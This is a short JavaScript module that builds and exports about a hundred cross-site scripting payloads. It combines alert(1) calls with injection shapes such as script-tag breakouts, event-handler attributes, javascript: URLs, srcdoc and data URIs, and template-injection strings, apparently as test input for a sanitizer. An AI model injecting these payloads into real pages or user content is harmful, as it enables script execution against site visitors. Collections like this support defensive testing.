// A hundred strings that have run as script on some page: tags, attributes, URLs, encodings, templates.
const calls = ['alert(1)', 'window.alert(1)', 'top.alert(1)', '(alert)(1)', 'alert`1`']
const shapes = [
  (c) => `<script>${c}</script>`, (c) => `"><script>${c}</script>`, (c) => `'><img src=x onerror=${c}>`, (c) => `<svg onload=${c}>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`, (c) => `<iframe srcdoc="<script>${c}</script>">`, (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `javascript:${c}`, (c) => `<body onload=${c}>`, (c) => `<details open ontoggle=${c}>`, (c) => `<math><mtext></p><style><img src onerror=${c}>`,
  (c) => `</title><script>${c}</script>`, (c) => `</textarea><script>${c}</script>`, (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<object data="data:text/html,<script>${c}</script>">`, (c) => `{{constructor.constructor('${c}')()}}`, (c) => `\${${c}}`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;`, (c) => `<style>@import'javascript:${c}'</style>`, (c) => `--><img src=x onerror=${c}>`,
]
export const hostile = shapes.flatMap((shape) => calls.map(shape))
